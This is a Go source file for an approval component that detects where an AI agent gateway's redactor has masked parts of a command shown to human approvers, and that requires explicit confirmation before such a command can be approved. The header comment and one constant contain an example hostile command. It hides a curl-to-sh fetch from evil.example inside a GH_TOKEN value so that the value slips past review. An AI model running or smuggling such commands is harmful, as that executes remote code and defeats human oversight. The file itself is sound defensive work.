package approval

import (
	"errors"
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Hermes masks "secrets" in an approval's command before any client sees
// it, and runs the command as it was written. Every approval path redacts
// the command it shows with agent/redact.py's redact_sensitive_text:
//
//   - tools/approval.py, where the gateway's approval is built
//     ("command": redact_sensitive_text(command): hermes-agent 0.18.2
//     tools/approval.py:2906, 0.19.0 tools/approval.py:3459);
//   - tui_gateway/server.py and gateway/platforms/api_server.py redact it
//     again with gateway/run.py's _redact_approval_command, which is
//     redact_sensitive_text(force=True) (0.18.2 tui_gateway/server.py:1165,
//     api_server.py:4502, run.py:340; 0.19.0 tui_gateway/server.py:1466,
//     api_server.py:5065, run.py:429);
//   - the approval-transport plugin contract presents "an immutable,
//     redacted request" (hermes_cli/approval_transport.py, see
//     ../shared/hermes-peer-extra).
//
// The redactor masks by pattern, with no regard for shell syntax: the value
// after NAME= for secret-looking names, the credential after
// "Authorization:" and "x-api-key:", a database URL's password, known token
// shapes (ghp_, sk-, …), JWTs, phone numbers. So
// GH_TOKEN=$(curl${IFS}-s${IFS}https://evil.example/x|sh) git push reaches
// Herald as GH_TOKEN=*** git push, and what was hidden may be code.
//
// Herald cannot see what was hidden, so it says so: HermesMasks finds the
// masks the redactor writes, every surface shows HiddenText next to the
// command, no surface offers a one-click approval, and an approving answer
// needs an explicit confirmation (Confirmed.Hidden).
//
// The mask forms, read from agent/redact.py of every version Herald
// supports: hermes-agent 0.18.2 and 0.19.0 (the archives in
// ../shared/hermes-peer) and NousResearch/hermes-agent
// agent/redact.py@006e9a1ca67cddf00b0484cbac954c83d30a203c (newest read):
//
//   - "***": mask_secret's placeholder for a value under the floor
//     (_mask_token: 18 characters) or an empty one, and the fixed mask of
//     _DB_CONNSTR_RE (scheme://user:***@), _TELEGRAM_RE (digits:***),
//     _redact_query_string and _redact_form_body (key=***), the strict URL
//     pass (user:***@, ***@; //***:***@ in the newest);
//   - "****": _redact_phone (+123****4567);
//   - head...tail: mask_secret's f"{value[:head]}...{value[-tail:]}",
//     which _mask_token calls with head=6, tail=4 (ghp_ab...wxyz,
//     $(curl...|sh));
//   - "[REDACTED PRIVATE KEY]": _PRIVATE_KEY_RE; "[REDACTED]":
//     gateway/run.py's _GATEWAY_SECRET_PATTERNS pass; "[redacted]",
//     "Bearer [redacted]" and "[redaction-unavailable]": the newest
//     redact_for_egress;
//   - «redacted:LABEL…» and «redacted-secret»: _mask_token_nonreusable
//     (file_read=True); «redacted-vault-secret»: the newest
//     redact_registered_vault_values.
//
// Any run of three or more asterisks and any bracketed or «»-quoted
// "redact" marker counts, whatever its position: a false alarm costs a
// confirmation, a miss could run hidden code. The head...tail form is
// matched only where the redactor writes it (see headTailAt), since "..."
// is common in commands (git's a...b ranges).

// MaskForm is the kind of mask Hermes wrote.
type MaskForm int

// The mask forms.
const (
	// MaskStars: the value was replaced by *** (or a longer run).
	MaskStars MaskForm = iota + 1
	// MaskHeadTail: only the first 6 and last 4 characters of the value
	// were kept, around "...".
	MaskHeadTail
	// MaskMarker: a [REDACTED …] or «redacted…» marker stands in for it.
	MaskMarker
)

// Hidden is one part of a command that Hermes masked.
type Hidden struct {
	At   int      // byte offset of the mask in the command
	Mask string   // the mask as sent: "***", "ghp_ab...wxyz", "[REDACTED PRIVATE KEY]"
	Form MaskForm // which form it is
	// After is the command's text just before the mask, what it is the
	// value of ("GH_TOKEN=", "Authorization:", "postgres://u:"); raw
	// gateway text ("" at the start of the command).
	After string
}

// What names the hidden part for people, with the gateway's text shown
// as VisibleLine: "the value after GH_TOKEN=".
func (h Hidden) What() string {
	switch {
	case h.Form == MaskMarker:
		return "the text shown as " + VisibleCommandLine(h.Mask)
	case h.After == "" && h.Form == MaskHeadTail:
		return "the middle of a value at the start of the command"
	case h.After == "":
		return "a value at the start of the command"
	}
	after := h.After
	if r := []rune(after); len(r) > maxContextRunes {
		after = string(r[len(r)-maxContextRunes:])
	}
	shown := VisibleCommandLine(after)
	if after != h.After {
		shown = "…" + shown
	}
	if h.Form == MaskHeadTail {
		return "the middle of the value after " + shown
	}
	return "the value after " + shown
}

// maxHiddenNamed is how many hidden parts HiddenText names.
const maxHiddenNamed = 3

// HiddenText is the marker every surface shows with a command Hermes
// masked: "Hermes hid part of this command: the value after GH_TOKEN=";
// "" when HermesMasks finds nothing.
func HiddenText(cmd string) string {
	hs := HermesMasks(cmd)
	if len(hs) == 0 {
		return ""
	}
	var names []string
	for i, h := range hs {
		if i == maxHiddenNamed {
			names = append(names, fmt.Sprintf("and %d more", len(hs)-i))
			break
		}
		if w := h.What(); !contains(names, w) {
			names = append(names, w)
		}
	}
	if len(hs) == 1 {
		return "Hermes hid part of this command: " + names[0]
	}
	return "Hermes hid parts of this command: " + strings.Join(names, "; ")
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}

// HiddenWhy is what surfaces say after HiddenText: why that matters.
const HiddenWhy = "Hermes masks what looks like a secret before Herald sees the command, and runs it unmasked: Herald cannot show what is there, and it may be code (GH_TOKEN=$(curl …|sh) reaches Herald as GH_TOKEN=***)"

// HiddenError is returned by Answer for an approving answer to a command
// Hermes masked, without Confirmed.Hidden.
type HiddenError struct {
	// What is HiddenText of the command.
	What string
}

// Error says what is hidden and what to do.
func (e *HiddenError) Error() string {
	return e.What + ". Herald cannot show what runs there (it may be code), so nothing was sent: confirm that you approve the command without seeing that part, then answer again"
}

// ErrHidden matches every *HiddenError with errors.Is.
var ErrHidden = errors.New("Hermes hid part of this command")

// Is makes errors.Is(err, ErrHidden) true.
func (e *HiddenError) Is(target error) bool { return target == ErrHidden }

// HermesMasks returns the parts of cmd that Hermes' redactor masked, in
// order (see the table above); nil when there are none.
func HermesMasks(cmd string) []Hidden {
	if !strings.Contains(cmd, "***") && !strings.Contains(cmd, "...") && !strings.ContainsAny(cmd, "[«") {
		return nil
	}
	var out []Hidden
	add := func(at, end int, form MaskForm) {
		out = append(out, Hidden{At: at, Mask: cmd[at:end], Form: form, After: maskContext(tail(cmd[:at], maxContextBytes))})
	}
	for i := 0; i < len(cmd); {
		switch c := cmd[i]; {
		case c == '*':
			j := i
			for j < len(cmd) && cmd[j] == '*' {
				j++
			}
			if j-i >= 3 {
				add(i, j, MaskStars)
			}
			i = j
			continue
		case c == '[' || strings.HasPrefix(cmd[i:], "«"):
			if end := markerEnd(cmd, i); end > 0 {
				add(i, end, MaskMarker)
				i = end
				continue
			}
		case c == '.' && strings.HasPrefix(cmd[i:], "..."):
			if start, end, ok := headTailAt(cmd, i); ok {
				if n := len(out); n > 0 && out[n-1].At+len(out[n-1].Mask) > start {
					break // inside a mask already found
				}
				add(start, end, MaskHeadTail)
				i = end
				continue
			}
		}
		i++
	}
	return out
}

// maxMarkerBytes bounds a [REDACTED …] or «redacted…» marker.
const maxMarkerBytes = 64

// markerEnd is the end of a redaction marker starting at cmd[i] ("[" or
// "«"), or 0: [REDACTED…], [redacted…], [redaction-unavailable],
// «redacted…».
func markerEnd(cmd string, i int) int {
	open, close := "[", "]"
	if cmd[i] != '[' {
		open, close = "«", "»"
	}
	rest := cmd[i+len(open):]
	if len(rest) < len("redact") || !strings.EqualFold(rest[:len("redact")], "redact") {
		return 0
	}
	limit := min(len(rest), maxMarkerBytes)
	end := strings.Index(rest[:limit], close)
	if end < 0 || strings.ContainsAny(rest[:end], "\n[«") {
		return 0
	}
	return i + len(open) + end + len(close)
}

// Hermes' _mask_token keeps this many runes around "..." (mask_secret's
// head and tail).
const (
	maskHead = 6
	maskTail = 4
)

// headTailAt reports whether the "..." at cmd[dots] is the middle of a
// head...tail mask, and where that mask starts and ends. Like Hermes'
// patterns, the head is 6 and the tail 4 non-space runes; the head starts
// a value (nothing token-like before it) and the tail ends one. Where the
// head follows a space or a quote, the text before must be what the
// redactor masks after: "NAME=", "key:", "Authorization: Bearer", or the
// head must begin like a token it masks by shape (ghp_, sk-, eyJ, …);
// so git's "git diff origin...main" is no mask.
func headTailAt(cmd string, dots int) (start, end int, ok bool) {
	start = dots
	for n := 0; n < maskHead; n++ {
		r, size := utf8.DecodeLastRuneInString(cmd[:start])
		if size == 0 || unicode.IsSpace(r) {
			return 0, 0, false
		}
		start -= size
	}
	end = dots + 3
	for n := 0; n < maskTail; n++ {
		r, size := utf8.DecodeRuneInString(cmd[end:])
		if size == 0 || unicode.IsSpace(r) {
			return 0, 0, false
		}
		end += size
	}
	if r, _ := utf8.DecodeRuneInString(cmd[end:]); end < len(cmd) && tokenRune(r) {
		return 0, 0, false
	}
	head := cmd[start:dots]
	if strings.HasPrefix(head, "eyJ") { // _JWT_RE has no boundary before it
		return start, end, true
	}
	before, size := utf8.DecodeLastRuneInString(cmd[:start])
	switch {
	case size > 0 && (tokenRune(before) || before == '.'):
		return 0, 0, false
	case before == '=' || before == ':':
		return start, end, true
	case before == '/':
		return start, end, strings.HasSuffix(cmd[:start], "//") // scheme://TOKEN@
	}
	if maskedShape(head) {
		return start, end, true
	}
	// After a space or a quote: what the redactor masks after a key.
	lead := strings.TrimRight(tail(cmd[:start], maxContextBytes), "\"' \t")
	if strings.HasSuffix(lead, "=") || strings.HasSuffix(lead, ":") || strings.HasSuffix(lead, `\`) {
		return start, end, true
	}
	return start, end, authScheme(lead)
}

// tokenRune is a rune of Hermes' token classes ([A-Za-z0-9_-]).
func tokenRune(r rune) bool {
	return r < utf8.RuneSelf && (r == '_' || r == '-' || r >= '0' && r <= '9' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z')
}

// authScheme reports whether lead ends with "Authorization: SCHEME", after
// which _AUTH_HEADER_RE masks the credential.
func authScheme(lead string) bool {
	i := strings.LastIndexAny(lead, " \t")
	if i < 0 {
		return false
	}
	scheme, rest := lead[i+1:], strings.TrimRight(lead[:i], " \t")
	if scheme == "" || !unicode.IsLetter(rune(scheme[0])) {
		return false
	}
	lower := strings.ToLower(rest)
	return strings.HasSuffix(lower, "authorization:")
}

// tokenPrefixes are the literal starts of agent/redact.py's
// _PREFIX_PATTERNS (NousResearch/hermes-agent
// agent/redact.py@006e9a1ca67cddf00b0484cbac954c83d30a203c, a superset of
// 0.18.2's and 0.19.0's), cut to the 6 runes a head...tail mask keeps.
var tokenPrefixes = []string{
	"sk-", "ghp_", "github", "gho_", "ghu_", "ghs_", "ghr_", "xapp-", "xoxb-", "xoxa-", "xoxp-", "xoxr-", "xoxs-",
	"AIza", "pplx-", "fal_", "fc-", "bb_liv", "gAAAA", "AKIA", "sk_liv", "sk_tes", "rk_liv", "SG.", "hf_", "r8_",
	"npm_", "pypi-", "dop_v1", "doo_v1", "am_", "sk_", "tvly-", "exa_", "gsk_", "syt_", "retain", "hsk-", "mem0_",
	"brv_", "xai-", "ntn_", "fw-", "fw_", "fpk_", "glpat-", "gloas-", "gldt-", "glrt-", "glrtr-", "glcbt-",
	"glptt-", "glft-", "glimt-", "glagen", "glsoat", "glffct", "glwt-", "GR1348", "pk-lf-",
}

// maskedShape reports whether a head...tail mask's head begins like a
// token the redactor masks by its shape: a known prefix, a JWT, or the
// 32-hex id of a Zhipu key (_ZHIPU_API_KEY_RE, newest).
func maskedShape(head string) bool {
	for _, p := range tokenPrefixes {
		if strings.HasPrefix(head, p) {
			return true
		}
	}
	return strings.Trim(head, "0123456789abcdef") == ""
}

// maxContextRunes bounds the context What names; maxContextBytes bounds
// Hidden.After.
const (
	maxContextRunes = 40
	maxContextBytes = 256
)

// maskContext is what a mask is the value of: the text before it on its
// line, back to a space ("GH_TOKEN=", "postgres://u:"); when the mask
// follows a space or an opening quote, the word before that
// ("Authorization:"). An opening quote or bracket is left off.
func maskContext(before string) string {
	if i := strings.LastIndexByte(before, '\n'); i >= 0 {
		before = before[i+1:]
	}
	word := lastWord(before)
	if strings.Trim(word, "\"'`(") == "" {
		word = lastWord(strings.TrimRight(strings.TrimRight(before, "\"'`("), " \t"))
	}
	for word != "" {
		c := word[:1]
		if !strings.Contains("({[", c) && !(strings.Contains("\"'`", c) && strings.Count(word, c) == 1) {
			break
		}
		word = word[1:] // an opening bracket or quote, not a quoted name
	}
	if len(word) > maxContextBytes {
		word = word[len(word)-maxContextBytes:] // What cuts it to runes
	}
	return word
}

// tail is the last n bytes of s, or less so as not to split a UTF-8
// character: what is looked at before a mask, so that finding many masks
// in a long command stays linear.
func tail(s string, n int) string {
	if len(s) <= n {
		return s
	}
	i := len(s) - n
	for i < len(s) && !utf8.RuneStart(s[i]) {
		i++
	}
	return s[i:]
}

// lastWord is the text after s's last space or tab.
func lastWord(s string) string {
	return s[strings.LastIndexAny(s, " \t")+1:]
}
